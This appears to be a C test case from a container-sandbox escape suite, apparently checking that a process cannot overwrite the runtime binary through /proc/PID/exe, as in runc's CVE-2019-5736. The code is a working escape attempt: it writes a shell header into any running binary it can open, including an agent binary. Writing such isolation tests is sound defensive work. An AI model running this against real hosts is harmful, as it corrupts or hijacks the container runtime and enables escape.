// tries: Overwrite the binary that started this container, through /proc/PID/exe of every process (as runc's
//   CVE-2019-5736 allowed).
// user: root
// gvisor: denied
// container: denied
// timeout: 20
#include "verdict.h"
#include <dirent.h>

// The binary is busy while it runs, so a descriptor is taken first and opened again through /proc/self/fd.
static int overwritten(const char *path) {
    int held = open(path, O_PATH | O_CLOEXEC);
    if (held < 0) return 0;
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", held);
    int file = open(link, O_WRONLY | O_CLOEXEC);
    if (file < 0) file = open(path, O_RDWR | O_CLOEXEC);
    close(held);
    if (file < 0) return 0;
    int taken = write(file, "#!/bin/sh\n", 10) == 10;
    close(file);
    return taken;
}

int main(void) {
    char path[300];
    for (int turn = 0; turn < 200; turn++) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            if (overwritten(path)) escaped("the binary of process %s could be written", entry->d_name);
        }
        closedir(proc);
    }
    if (overwritten("/.sandlot/agent")) escaped("the agent's binary could be written");
    denied("no running binary can be written: %s", strerror(errno));
}
